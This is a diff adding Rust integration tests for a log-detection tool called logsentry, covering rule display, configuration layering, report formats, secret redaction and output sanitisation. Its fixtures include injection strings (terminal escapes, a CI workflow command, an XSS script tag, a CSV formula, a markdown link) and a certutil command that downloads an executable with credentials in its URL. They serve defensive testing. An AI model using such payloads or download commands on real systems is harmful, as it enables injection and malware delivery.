@@ -1,0 +1,162 @@
+//! Commands as their users type them.
+
+use crate::support::{Folder, root, run, run_in};
+
+#[test]
+fn version_says_what_was_built() {
+    let version = run(&["version", "--json"]).with_code(0).json();
+    assert_eq!(version["name"], "logsentry");
+    assert_eq!(version["version"], env!("CARGO_PKG_VERSION"));
+    assert_eq!(version["rules"]["correlation"], 5);
+    assert!(version["rules"]["detection"].as_u64() >= Some(19));
+    let text = run(&["version"]).with_code(0).stdout;
+    assert_eq!(text.lines().count(), 1, "{text}");
+}
+
+#[test]
+fn formats_lists_every_row_with_an_example() {
+    let formats = run(&["formats", "--format", "json"]).with_code(0).json();
+    for format in formats.as_array().expect("a list") {
+        for key in ["name", "summary", "spec", "example"] {
+            assert!(format[key].as_str().is_some_and(|text| !text.is_empty()), "{format}: {key}");
+        }
+    }
+    let table = run(&["formats"]).with_code(0).stdout;
+    assert!(table.contains("syslog-3164"), "{table}");
+}
+
+#[test]
+fn rules_show_tells_what_a_rule_looks_for() {
+    for id in ["corr-ssh-bruteforce", "linux-ssh-failed-password", "SSH Passwords Guessed From One Address"] {
+        let shown = run(&["rules", "show", id, "--no-config"]).with_code(0).stdout;
+        assert!(shown.contains("Level") && shown.contains("Reference"), "{shown}");
+    }
+    run(&["rules", "show", "nothing-like-it", "--no-config"]).with_code(2);
+}
+
+#[test]
+fn a_users_rule_replaces_the_built_in_one_of_the_same_name() {
+    let folder = Folder::new();
+    folder.write(
+        "mine.yml",
+        "title: My own\nname: linux-user-added\nlogsource: {category: any}\ndetection:\n    s: {message: x}\n    condition: s\nlevel: high\n",
+    );
+    let args = ["rules", "--no-config", "-r", "mine.yml", "--format", "json"];
+    let rules = run_in(folder.path(), &args).with_code(0).json();
+    let mine: Vec<_> =
+        rules.as_array().expect("a list").iter().filter(|rule| rule["id"] == "linux-user-added").collect();
+    assert_eq!(mine.len(), 1);
+    assert_eq!(mine[0]["title"], "My own");
+    assert_eq!(mine[0]["file"], "mine.yml");
+}
+
+#[test]
+fn layers_of_configuration_go_over_each_other() {
+    let folder = Folder::new();
+    folder.write(
+        "logs/a.log",
+        "Mar  2 09:00:01 gate sshd[77]: Failed password for root from 198.51.100.7 port 50011 ssh2\n",
+    );
+    folder.write(".logsentry.yml", "fail_on: low\nreports: {json: out/report.json}\n");
+    let scan = |variable: Option<(&str, &str)>, args: &[&str]| {
+        let mut command = crate::support::command(folder.path());
+        command.args(["scan", "logs"]).args(args);
+        if let Some((name, value)) = variable {
+            command.env(name, value);
+        }
+        command.output().expect("it was built").status.code()
+    };
+    assert_eq!(scan(None, &[]), Some(1));
+    assert!(folder.read("out/report.json").contains("\"config\": \".logsentry.yml\""));
+    assert_eq!(scan(Some(("LOGSENTRY_FAIL_ON", "critical")), &[]), Some(0));
+    assert_eq!(scan(Some(("LOGSENTRY_FAIL_ON", "critical")), &["--fail-on", "low"]), Some(1));
+    assert_eq!(scan(Some(("LOGSENTRY_FAIL_ON", "")), &[]), Some(1));
+    assert_eq!(scan(Some(("LOGSENTRY_USE_BUILTIN_RULES", "maybe")), &[]), Some(2));
+    assert_eq!(scan(Some(("LOGSENTRY_USE_BUILTIN_RULES", "no")), &[]), Some(0));
+    assert_eq!(scan(None, &["--no-config"]), Some(0));
+}
+
+#[test]
+fn hostile_log_text_is_harmless_on_every_way_out() {
+    let folder = Folder::new();
+    let name = "\u{1b}[31m\u{202e}::error::<script>alert(1)</script>](https://evil)=cmd()";
+    let line = serde_json::json!({"Channel": "Security", "EventID": 4625, "TargetUserName": name, "IpAddress": "=cmd()", "TimeCreated": "2026-03-02T09:00:00Z"});
+    folder.write("a.jsonl", format!("{line}\n"));
+    for format in ["console", "json", "jsonl", "matches", "csv", "sarif", "html"] {
+        let ran = folder.run(&["scan", "a.jsonl", "--no-config", "--format", format]).with_code(0);
+        for text in [&ran.stdout, &ran.stderr] {
+            assert!(!text.contains('\u{1b}') && !text.contains('\u{202e}'), "{format}: {text}");
+            assert!(text.lines().all(|line| !line.trim_start().starts_with("::")), "{format}: {text}");
+        }
+        if format == "html" {
+            assert!(!ran.stdout.contains("<script>alert"), "{}", ran.stdout);
+        }
+        if format == "csv" {
+            assert!(!ran.stdout.contains(",=cmd"), "{}", ran.stdout);
+        }
+        if format == "sarif" {
+            assert!(!ran.stdout.contains("]("), "{}", ran.stdout);
+        }
+    }
+}
+
+#[test]
+fn several_reports_come_from_one_scan() {
+    let folder = Folder::new();
+    folder
+        .write("a.log", "Mar  2 09:00:01 gate sshd[77]: Failed password for root from 198.51.100.7 port 50011 ssh2\n");
+    let args = [
+        "scan",
+        "a.log",
+        "--no-config",
+        "--report",
+        "sarif=r/a.sarif",
+        "--report",
+        "html=r/a.html",
+        "--report",
+        "matches=r/a.jsonl",
+    ];
+    let ran = folder.run(&args).with_code(0);
+    assert!(ran.stdout.starts_with("Verdict:"), "{}", ran.stdout);
+    assert!(folder.read("r/a.sarif").contains("\"2.1.0\""));
+    assert!(folder.read("r/a.html").contains("<html"));
+    assert!(folder.read("r/a.jsonl").lines().count() == 2);
+}
+
+#[test]
+fn secrets_are_blanked_in_every_report() {
+    let folder = Folder::new();
+    let line = serde_json::json!({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Image": "C:\\Windows\\System32\\certutil.exe",
+        "CommandLine": "certutil -urlcache -split -f https://u:hunter2@198.51.100.7/x.exe password=tops3cret", "UtcTime": "2026-03-02 09:00:00.000"});
+    folder.write("a.jsonl", format!("{line}\n"));
+    for format in ["console", "json", "jsonl", "matches", "csv", "sarif", "html"] {
+        let ran = folder.run(&["scan", "a.jsonl", "--no-config", "--format", format]).with_code(0);
+        assert!(!ran.stdout.contains("tops3cret") && !ran.stdout.contains("hunter2"), "{format}: {}", ran.stdout);
+        assert!(format == "console" || ran.stdout.contains("certutil"), "{format}: {}", ran.stdout);
+    }
+    let shown = folder.run(&["scan", "a.jsonl", "--no-config", "--format", "json", "--redact", "off"]).with_code(0);
+    assert!(shown.stdout.contains("tops3cret"));
+    let of = |ran: &crate::support::Ran| ran.json()["alerts"][0]["fingerprint"].clone();
+    assert_eq!(of(&shown), of(&folder.run(&["scan", "a.jsonl", "--no-config", "--format", "json"])));
+}
+
+#[test]
+fn the_example_configuration_is_understood() {
+    let folder = Folder::new();
+    folder.write("a.log", "");
+    let example = std::fs::read_to_string(root().join(".logsentry.yml.example")).expect("it is there");
+    folder.write(".logsentry.yml", &example);
+    folder.run(&["scan", "a.log"]).with_code(0);
+    // And with every line that is commented out.
+    let all: String = example
+        .lines()
+        .map(|line| {
+            format!(
+                "{}\n",
+                line.replacen("# fail_on", "fail_on", 1).replacen("  # ", "  ", 1).replacen("# threads", "threads", 1)
+            )
+        })
+        .collect();
+    folder.write(".logsentry.yml", all);
+    folder.run(&["scan", "a.log"]).with_code(0);
+}
